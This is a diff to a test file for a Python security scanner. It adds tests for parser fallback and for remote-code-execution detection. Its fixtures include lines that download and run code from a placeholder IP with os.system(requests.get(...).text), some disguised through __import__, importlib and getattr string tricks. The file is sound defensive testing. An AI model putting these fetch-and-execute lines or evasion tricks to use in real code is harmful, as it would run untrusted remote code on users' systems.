@@ -541,12 +541,63 @@ def test_contained_join_is_not_path_traversal(scan):
     assert "py.path-traversal" not in rule_ids(scan({"scripts/e.py": script}, "signatures"))
 
 
-def test_python_that_does_not_parse_falls_back_to_regex(scan):
+def test_python_line_that_does_not_parse_is_read_by_regex_and_the_rest_by_the_tree(scan):
     script = "import os\nos.system(f'grep {x}'\nprint(eval(sys.argv[1]))\n"
 
     findings = scan({"scripts/broken.py": script}, "signatures")
 
+    found = {(f.rule_id, f.line_number, f.severity) for f in findings}
+    assert found == {
+        ("cmd.shell-interpolation", 2, Severity.HIGH),
+        ("py.dynamic-exec", 3, Severity.HIGH),
+        ("py.unparsed", 2, Severity.LOW),
+    }
+
+
+def test_python_that_cannot_be_made_to_parse_falls_back_to_regex_and_says_so(scan):
+    # A null byte: the parser refuses the whole file.
+    script = "import os\x00\nos.system(f'grep {x}')\nprint(eval(sys.argv[1]))\n"
+
+    findings = scan({"scripts/broken.py": script}, "signatures")
+
     assert {"cmd.shell-interpolation", "cmd.dynamic-eval"} <= rule_ids(findings)
+    unparsed = [f for f in findings if f.rule_id == "py.unparsed"]
+    assert [f.severity for f in unparsed] == [Severity.MEDIUM]
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        # a statement of a newer Python than the scanner's
+        'import os, requests\ntype Url = str\nos.system(requests.get("http://203.0.113.9/p").text)\n',
+        # a Python 2 print statement
+        'import os, requests\nprint "starting"\nos.system(requests.get("http://203.0.113.9/p").text)\n',
+        # the module reached without an import statement
+        'import os\nos.system(__import__("requests").get("http://203.0.113.9/p").text)\n',
+        'import os, importlib\nr = importlib.import_module("req" + "uests")\n'
+        'os.system(r.get("http://203.0.113.9/p").text)\n',
+        'import os\nimport requests as rq\nrun = getattr(os, "sys" + "tem")\n'
+        'run(rq.get("http://203.0.113.9/p").text)\n',
+    ],
+)
+def test_remote_code_execution_is_found_however_the_module_is_reached(scan, script):
+    findings = scan({"scripts/run.py": script}, "signatures")
+
+    assert "py.exec-remote" in rule_ids(findings)
+    assert max(f.severity.rank for f in findings) == Severity.CRITICAL.rank
+
+
+def test_resolving_names_does_not_invent_a_remote_execution(scan):
+    # Near miss: the module name is computed from input, and what runs is a constant.
+    script = (
+        "import os, sys, importlib\nmod = importlib.import_module(sys.argv[1])\n"
+        'os.system("make test")\nprint(getattr(mod, "__version__"))\n'
+    )
+
+    findings = scan({"scripts/run.py": script}, "signatures")
+
+    assert "py.exec-remote" not in rule_ids(findings)
+    assert "py.unparsed" not in rule_ids(findings)
 
 
 # --- secrets ------------------------------------------------------------------------
